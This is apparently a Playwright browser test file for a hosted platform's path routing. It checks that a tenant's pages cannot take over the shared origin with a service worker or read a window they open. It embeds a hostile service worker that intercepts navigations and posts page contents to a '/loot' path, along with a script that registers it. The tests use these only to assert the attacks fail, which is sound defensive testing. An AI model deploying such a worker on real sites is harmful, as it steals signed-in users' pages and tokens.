"""In path routing an instance's pages share the platform's origin. In Chromium, behind the real edge: what they try, and what they get."""

from __future__ import annotations

import hashlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.async_api import BrowserContext, Page

from openclaw_hosted.domain.account import Session, User
from openclaw_hosted.domain.naming import InstanceId
from openclaw_hosted.domain.origins import Addresses
from openclaw_hosted.server import WebPlace, serving
from tests.integration.web.conftest import World
from tests.integration.web.test_browser import chromium, sign_in
from tests.support.browser import visit_from_loop
from tests.support.edge import FAR_FUTURE, IDS, Edge
from tests.support.hostile import File, Hostile, hostile_gateway
from tests.support.ports import free_port
from tests.support.waiting import until

pytestmark = pytest.mark.browser

WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil((async () => {
  await self.registration.navigationPreload?.enable();
  await self.clients.claim();
})()));
self.addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  event.respondWith((async () => {
    const answer = (await HOW) ?? (await fetch(event.request));
    const text = await answer.text();
    await fetch(LOOT, {method: "POST", body: `${new URL(event.request.url).pathname} ${text}`});
    return new Response(text, {headers: {"Content-Type": "text/html"}});
  })());
});
"""
REGISTER = """<title>waiting</title><script>
navigator.serviceWorker.register(SCRIPT, {scope: "/"}).then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "taken" }, (error) => { document.title = error.name });
</script>"""


@dataclass
class Shared:
    """A platform behind an edge, an instance whose tenant serves pages of their own, and a browser."""

    edge: Edge
    world: World
    user: User
    gateway: Hostile
    instance_id: InstanceId
    context: BrowserContext

    def at(self, path: str) -> str:
        return f"{self.edge.url}/{self.instance_id}{path}"

    def serve(self, path: str, body: str, kind: str = "text/html", **headers: str) -> None:
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        self.gateway.files[f"/{self.instance_id}{path}"] = File(body, kind, named)

    def serve_worker(self, how: str = "event.preloadResponse") -> None:
        """A page that registers a worker for the whole origin; the worker takes navigations `how` it is told."""
        worker = WORKER.replace("HOW", how).replace("LOOT", f'"/{self.instance_id}/loot"')
        self.serve("/sw.js", worker, "text/javascript", Service_Worker_Allowed="/")
        self.serve("/evil.html", REGISTER.replace("SCRIPT", f'"/{self.instance_id}/sw.js"'))

    async def signed_in(self) -> Page:
        """A tab whose user is signed in, at the platform and at the edge."""
        page = await self.context.new_page()
        await sign_in(page, self.edge.url, self.user)
        for cookie in await self.context.cookies():
            key = hashlib.sha256(cookie.get("value", "").encode()).hexdigest()
            await self.edge.gate.allow(Session(key, self.user.id, 0.0, FAR_FUTURE))
        return page


@pytest.fixture
async def shared(world: World, ada: User, tmp_path: Path) -> AsyncIterator[Shared]:
    edge, instance_id = Edge(tmp_path / "edge", free_port()), IDS.instance_id()
    world.reach_at(Addresses(edge.url))
    async with hostile_gateway() as gateway, chromium() as browser:
        try:
            await edge.local.ensure()
            await edge.router.bind(instance_id, gateway.target, ada.id, 1)
            async with serving(world.app, WebPlace(edge.web_socket)):
                context = await browser.new_context()
                yield Shared(edge, world, ada, gateway, instance_id, context)
                await context.close()
        finally:
            await edge.local.stop()


async def test_a_page_of_an_instance_gets_no_worker_for_the_whole_origin(shared: Shared) -> None:
    shared.serve_worker()
    page = await shared.signed_in()
    await visit_from_loop(page, shared.at("/evil.html"))
    await page.wait_for_function("document.title != 'waiting'")
    assert await page.title() == "SecurityError"


async def test_an_instance_without_a_slash_is_no_workers_script(shared: Shared) -> None:
    shared.serve("", "self.addEventListener('fetch', () => {})", "text/javascript")
    shared.serve("/evil.html", REGISTER.replace("SCRIPT", f'"/{shared.instance_id}"'))
    page = await shared.signed_in()
    await visit_from_loop(page, shared.at("/evil.html"))
    await page.wait_for_function("document.title != 'waiting'")
    assert await page.title() != "taken"


async def test_a_window_that_an_instances_page_opened_can_not_be_read(shared: Shared) -> None:
    shared.serve("/opener.html", "<title>opener</title>", Cross_Origin_Opener_Policy="same-origin")
    page = await shared.signed_in()
    await visit_from_loop(page, shared.at("/opener.html"))
    async with shared.context.expect_page() as opened:
        await page.evaluate("window.other = window.open('/account'), null")
    account = await opened.value
    await account.wait_for_load_state()
    assert "csrf_token" in await account.content()
    assert await page.evaluate("(() => { try { return window.other.document.body.innerHTML } catch { return '' } })()") == ""


@pytest.mark.parametrize("how", ["event.preloadResponse", "fetch(event.request)"])
async def test_a_worker_from_before_reads_no_page_and_is_thrown_out(world: World, ada: User, tmp_path: Path, how: str) -> None:
    edge, instance_id = Edge(tmp_path / "edge", free_port()), IDS.instance_id()
    world.reach_at(Addresses(edge.url))
    async with chromium() as browser:
        context = await browser.new_context()
        async with hostile_gateway(edge.port) as gateway:
            before = Shared(edge, world, ada, gateway, instance_id, context)
            before.serve_worker(how)
            page = await context.new_page()
            await visit_from_loop(page, before.at("/evil.html"))
            await page.wait_for_function("document.title == 'taken'")
        async with hostile_gateway() as gateway:
            shared = Shared(edge, world, ada, gateway, instance_id, context)
            try:
                await edge.local.ensure()
                await edge.router.bind(instance_id, gateway.target, ada.id, 1)
                async with serving(world.app, WebPlace(edge.web_socket)):
                    async with world.browser(ada) as other:
                        cookie = other.client.cookies["ochs"]
                    await context.add_cookies([{"name": "ochs", "value": cookie, "url": edge.url, "httpOnly": True, "sameSite": "Lax"}])
                    await edge.gate.allow(Session(hashlib.sha256(cookie.encode()).hexdigest(), ada.id, 0.0, FAR_FUTURE))

                    async def is_rid_of_it() -> bool:
                        await visit_from_loop(page, f"{edge.url}/account")
                        return "csrf_token" in await page.content() and not await page.evaluate(
                            "navigator.serviceWorker.getRegistrations().then(all => all.length)"
                        )

                    await until(is_rid_of_it)
                    assert "csrf_token" not in "".join(shared.gateway.loot)
            finally:
                await edge.local.stop()
        await context.close()
